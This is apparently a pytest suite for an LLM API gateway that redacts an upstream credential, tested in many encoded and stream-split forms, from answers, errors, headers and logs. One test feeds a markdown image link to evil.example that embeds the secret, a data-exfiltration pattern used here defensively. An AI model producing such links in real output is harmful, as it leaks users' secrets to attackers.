"""An upstream's credential never reaches a caller, whatever form of it an upstream repeats."""

from __future__ import annotations

import base64
import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote

import httpx2
import pytest

from fake_upstream import MODEL
from gateway import Served, binary
from scripted import Scripted, event, stream, whole
from secret_places import (
    OPENED,
    STREAMS,
    chunk,
    documents,
    streamed,
)
from test_serve import fake_model, serve
from waiting import wait_until

FULL = bool(os.environ.get("TOKEN_SHIELD_FULL"))
CANARY = "sk-canary/Zq7+0123456789abcdefXYZ"
PATHS = {
    "chat": "/v1/chat/completions",
    "completions": "/v1/completions",
    "messages": "/v1/messages",
    "embeddings": "/v1/embeddings",
    "responses": "/v1/responses",
}
CLIENT = httpx2.Client(trust_env=False, timeout=60)
FORMS = {
    "plain": CANARY,
    "bearer": f"Authorization: Bearer {CANARY}",
    "percent": "".join(f"%{byte:02x}" for byte in CANARY.encode()),
    "some percent": CANARY.replace("/", "%2F").replace("+", "%2B"),
    "escaped": "".join(f"\\u{byte:04x}" for byte in CANARY.encode()),
    "slashed": CANARY.replace("/", "\\/"),
    **{f"base64 {n}": base64.b64encode(b"x" * n + CANARY.encode()).decode() for n in range(3)},
    **{
        f"base64url {n}": base64.urlsafe_b64encode(b"x" * n + CANARY.encode() + b"!")
        .decode()
        .rstrip("=")
        for n in range(3)
    },
}


def cores() -> list[str]:
    """The part of the canary's base64 that is the same for any surrounding bytes."""
    found = []
    for before in range(3):
        text = base64.b64encode(b"x" * before + CANARY.encode()).decode()
        core = text[-(-before * 8 // 6) : (before + len(CANARY)) * 8 // 6]
        found += [core, core.replace("+", "-").replace("/", "_")]
    return found


def shows(text: str) -> bool:
    """Whether a careful reader finds the canary."""
    readings = {text}
    for _layer in range(2):
        readings |= {one.replace("\\/", "/") for one in readings} | {
            re.sub(r"\\+u([0-9a-f]{4})", lambda found: chr(int(found[1], 16)), one)
            for one in readings
        }
        readings |= {unquote(one) for one in readings}
    return any(word in reading for reading in readings for word in [CANARY, *cores()])


def test_the_eye_of_these_tests() -> None:
    assert all(shows(json.dumps({"x": form})) and shows(form) for form in FORMS.values())
    assert not shows("sk-canary is a bird, 0123456789abcdef")


@pytest.fixture(scope="module")
def model() -> Iterator[Scripted]:
    said = Scripted()
    yield said
    said.stop()


@pytest.fixture(scope="module")
def gateway(model: Scripted, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    os.environ["CANARY_CREDENTIAL"] = CANARY
    quick = (
        "[class.default]\nrpm = 10000000\nburst = 1000000\nin_flight = 64\n"
        'output_tokens = 100000\nanswers = { fetched = "report", clicked = "report" }\n'
    )
    try:
        with serve(
            tmp_path_factory.mktemp("secrets"),
            quick + fake_model(model.url, 'credential = "env:CANARY_CREDENTIAL"'),
        ) as served:
            yield served
            assert not shows(served.logged())
    finally:
        del os.environ["CANARY_CREDENTIAL"]


def ask(gateway: Served, operation: str, mark: str, **more: object) -> httpx2.Response:
    said = {
        "chat": {"messages": [{"role": "user", "content": mark}]},
        "completions": {"prompt": mark},
        "embeddings": {"input": mark},
        "responses": {"input": mark},
    }
    said["messages"] = {**said["chat"], "max_tokens": 99}
    headers = {"authorization": f"Bearer {gateway.token}"}
    return CLIENT.post(
        gateway.url + PATHS[operation],
        json={"model": MODEL, **said[operation], **more},
        headers=headers,
    )


@pytest.mark.parametrize("form", FORMS)
def test_whole_answers(gateway: Served, model: Scripted, form: str) -> None:
    for number, (operation, place, document) in enumerate(documents(FORMS[form])):
        model.say(f"{form} {number}", whole(document))
        answer = ask(gateway, operation, f"{form} {number}")
        # Names with escapes are refused, whatever their content.
        assert answer.status_code == 200 or (place == "a name" and "\\" in FORMS[form]), (
            place,
            answer.text,
        )
        assert not shows(answer.text) and not shows(str(answer.headers)), (place, answer.text)
        assert (
            answer.status_code == 502
            or "[credential]" in answer.text
            or '"logprobs":null' in answer.text
        ), (place, answer.text)


@pytest.mark.parametrize("form", FORMS)
def test_errors(gateway: Served, model: Scripted, form: str) -> None:
    hole = FORMS[form]
    errors = [
        {"error": {"message": f"key {hole} is bad", "type": "x", "code": hole}},
        {"error": hole},
        {"object": "error", "message": hole},
        {"detail": [{"msg": hole, "input": {"headers": {"a": hole}}}]},
    ]
    for number, (status, error) in enumerate(
        (status, error) for status in (400, 404, 429, 500, 503) for error in errors
    ):
        model.say(f"error {form} {number}", whole(error, status, retry_after=hole, x_debug=hole))
        for operation in PATHS:
            answer = ask(gateway, operation, f"error {form} {number}")
            assert (
                answer.status_code == status
                and not shows(answer.text)
                and not shows(str(answer.headers))
            ), answer.text
            assert "retry-after" not in answer.headers
    for status in (401, 403, 302, 200):
        model.say(
            f"odd {form} {status}", whole(f"<p>{hole}</p>".encode(), status, media="text/html")
        )
        answer = ask(gateway, "chat", f"odd {form} {status}")
        assert (
            answer.status_code == 502 and not shows(answer.text) and not shows(str(answer.headers))
        )
        request = answer.headers["token-shield-request"]
        assert not shows(binary("why", request, "--data", str(gateway.data)).out)


def joined(answer: httpx2.Response) -> str:
    """All texts of a stream joined, as SDKs do it."""
    whole_text = []
    for line in answer.text.splitlines():
        if line.startswith("data: {"):
            data = json.loads(line[6:])
            for choice in data.get("choices", []):
                delta = choice.get("delta", {})
                whole_text += [
                    choice.get("text"),
                    delta.get("content"),
                    delta.get("reasoning_content"),
                ]
                whole_text += [
                    one["function"].get("arguments") for one in delta.get("tool_calls", [])
                ]
            delta = data.get("delta", {})
            if isinstance(delta, str):
                whole_text.append(delta)
                continue
            whole_text += [delta.get("text"), delta.get("partial_json")]
    return "".join(one for one in whole_text if one)


@pytest.mark.parametrize("place", STREAMS)
@pytest.mark.parametrize("form", FORMS if FULL else ["plain", "some percent", "base64 1"])
def test_streams_at_every_split(gateway: Served, model: Scripted, place: str, form: str) -> None:
    operation, piece = STREAMS[place]
    said = f"it is {FORMS[form]}, she said"
    kind = {"arguments": "call", "input": "tool_use"}.get(place, "text")
    every = range(4, len(said) - 4) if FULL or form == "plain" else range(9, len(said) - 9, 11)
    cuts = [[said[:cut], said[cut:]] for cut in every] + [list(said)]
    for number, pieces in enumerate(cuts):
        mark = f"{place} {form} {number}"
        model.say(mark, streamed(operation, [piece(one) for one in pieces], kind))
        answer = ask(gateway, operation, mark, stream=True)
        assert answer.status_code == 200, answer.text
        text = joined(answer)
        assert not shows(text) and not shows(answer.text), (pieces, text)
        assert (
            text.startswith("it is ") and "[credential]" in text and text.endswith(", she said")
        ), (pieces, text)


@pytest.mark.parametrize("bare", ["sk-canary-0123456789abcdefXYZ", "31415926535897932384"])
def test_secrets_without_quotes(model: Scripted, tmp_path: Path, bare: str) -> None:
    """A bare JSON word or number as a credential, for readers that accept it."""
    (tmp_path / "credential").write_text(bare)
    (tmp_path / "credential").chmod(0o600)
    with serve(
        tmp_path, fake_model(model.url, f'credential = "file:{tmp_path}/credential"')
    ) as served:
        error = b'{"error":{"message":"bad key","key":%s}}' % bare.encode()
        for status in (400, 500):
            model.say(f"bare {bare} {status}", whole(error, status))
            answer = ask(served, "chat", f"bare {bare} {status}")
            assert (
                answer.status_code == status
                and bare not in answer.text
                and answer.json()["error"]["key"] == "[credential]"
            ), answer.text
        choice = (
            b'"index":0,"finish_reason":"stop","%s":{"role":"assistant","content":"x","k":[1, %s]}'
        )
        model.say(
            f"bare {bare}", whole(b'{"choices":[{%s}]}' % (choice % (b"message", bare.encode())))
        )
        answer = ask(served, "chat", f"bare {bare}")
        assert answer.status_code == 200 and answer.json()["choices"][0]["message"]["k"] == [
            1,
            "[credential]",
        ], answer.text
        model.say(
            f"bare events {bare}",
            stream(
                b'data: {"choices":[{%s}]}\n\n' % (choice % (b"delta", bare.encode())),
                event("[DONE]"),
            ),
        )
        answer = ask(served, "chat", f"bare events {bare}", stream=True)
        assert (
            answer.status_code == 200
            and bare not in answer.text
            and '"[credential]"' in answer.text
        ), answer.text
        assert bare not in served.logged()


def test_numbers_and_words_come_out_byte_for_byte(gateway: Served, model: Scripted) -> None:
    document = (
        b'{"choices": [{"index": 0, "message": {"role": "assistant", "content": "x"}, '
        b'"finish_reason": "stop", "n": [314159265358979323846, -1.5E-8, true, null]}]}'
    )
    model.say("honest numbers", whole(document))
    assert ask(gateway, "chat", "honest numbers").content == document


def test_a_split_secret_behind_lines_that_were_removed(gateway: Served, model: Scripted) -> None:
    comments = b"".join(b": %s %s\n\n" % (CANARY.encode(), b"z" * 900) for _ in range(400))
    model.say(
        "removed lines",
        streamed(
            "chat",
            [
                comments,
                chunk({"content": f"it is {CANARY[:14]}"}),
                chunk({"content": f"{CANARY[14:]}, she said"}),
            ],
        ),
    )
    answer = ask(gateway, "chat", "removed lines", stream=True)
    assert joined(answer) == "it is [credential], she said"


@pytest.mark.parametrize("cut", [1, 7, 8, 15, len(CANARY) - 1])
def test_what_is_held_too_long_shows_little(gateway: Served, model: Scripted, cut: int) -> None:
    """Another text sends more bytes than the filter holds back."""
    aside = [
        event(
            {"choices": [{"index": 0, "delta": {"refusal": "y" * 20_000}, "finish_reason": None}]}
        )
    ] * 15
    model.say(
        f"held {cut}",
        streamed(
            "chat",
            [
                chunk({"content": f"it is {CANARY[:cut]}"}),
                *aside,
                chunk({"content": f"{CANARY[cut:]}, she said"}),
            ],
        ),
    )
    text = joined(ask(gateway, "chat", f"held {cut}", stream=True))
    begun, mark, behind = text.removeprefix("it is ").partition("[credential]")
    assert mark and len(begun) <= 7 and CANARY.startswith(begun) and behind == ", she said", text


def test_error_events_and_other_lines(gateway: Served, model: Scripted) -> None:
    error = {"error": {"message": f"{CANARY} at {model.url}/v1 (127.0.0.1:{model.port})"}}
    model.say(
        "error event", stream(f": {CANARY}\n\n".encode(), chunk({"content": "a"}), event(error))
    )
    answer = ask(gateway, "chat", "error event", stream=True)
    assert (
        not shows(answer.text)
        and str(model.port) not in answer.text
        and "[upstream]" in answer.text
    ), answer.text
    typed = {
        "type": "error",
        "error": {"type": "api_error", "message": f"{CANARY} at 127.0.0.1:{model.port}"},
    }
    model.say("typed error", stream(event(OPENED, "message_start"), event(typed, "error")))
    answer = ask(gateway, "messages", "typed error", stream=True)
    assert not shows(answer.text) and str(model.port) not in answer.text, answer.text


def test_addresses_of_upstreams_stay_inside_errors_and_stand_in_texts(
    gateway: Served, model: Scripted
) -> None:
    place = f"127.0.0.1:{model.port}"
    model.say(
        "address error",
        whole({"error": {"message": f"connect to {model.url}/v1/x and {place} failed"}}, 500),
    )
    answer = ask(gateway, "chat", "address error")
    assert answer.json()["error"]["message"] == "connect to [upstream]/v1/x and [upstream] failed"
    text = f"the server listens at {place}, see {place}"
    model.say(
        "address text",
        whole(
            {
                "choices": [
                    {
                        "index": 0,
                        "message": {"role": "assistant", "content": text},
                        "finish_reason": "stop",
                    }
                ]
            }
        ),
    )
    assert ask(gateway, "chat", "address text").json()["choices"][0]["message"]["content"] == text


def test_ordinary_answers_come_out_byte_for_byte(gateway: Served, model: Scripted) -> None:
    texts = [
        "sk-",
        "sk-can",
        "ary is a bird",
        " %2F \\u0041 \\/ ",
        "\u00e9\u4e2d\U0001f600",
        "c2stY2FuYXJ5",
        "",
    ]
    events = streamed("chat", [chunk({"content": one}) for one in texts])
    model.say("ordinary stream", events)
    assert (
        ask(gateway, "chat", "ordinary stream", stream=True).content
        == events.partition(b"\r\n\r\n")[2]
    )
    document = json.dumps(
        {
            "choices": [
                {
                    "index": 0,
                    "message": {"role": "assistant", "content": "".join(texts)},
                    "finish_reason": "stop",
                }
            ],
            "usage": None,
        },
        indent=1,
    ).encode()
    model.say("ordinary", whole(document))
    assert ask(gateway, "chat", "ordinary").content == document


def test_what_an_answer_leads_to_is_recorded_without_it(gateway: Served, model: Scripted) -> None:
    host = CANARY.replace("/", "%2F").replace("+", "%2B").lower()
    text = f"![x](https://{CANARY}@evil.example/a) ![y](https://evil.example/{host})"
    model.say(
        "led",
        whole(
            {
                "choices": [
                    {
                        "index": 0,
                        "message": {"role": "assistant", "content": text},
                        "finish_reason": "stop",
                    }
                ]
            }
        ),
    )
    answer = ask(gateway, "chat", "led")
    assert not shows(answer.text)
    request = answer.headers["token-shield-request"]
    wait_until(lambda: gateway.line("request", request=request), 10, "the request's line")
    rows = binary("audit", "query", str(gateway.data / "audit"), "--request", request)
    assert rows.code == 0 and not shows(rows.out) and not shows(gateway.logged())


def test_short_credentials_are_warned_of(tmp_path: Path) -> None:
    (tmp_path / "short").write_text("too-short")
    (tmp_path / "short").chmod(0o600)
    config = tmp_path / "token-shield.toml"
    config.write_text(
        (
            'name = "gw"\ndata = "."\n[[issuer]]\niss = "https://a.example"\n'
            'aud = "https://b.example"\nnamespaces = ["*"]\n'
        )
        + fake_model("http://127.0.0.1:9", 'credential = "file:short"')
    )
    done = binary("config", "check", str(config))
    assert done.code == 0 and "fewer than 16 bytes" in done.err and "too-short" not in done.err, (
        done.err
    )
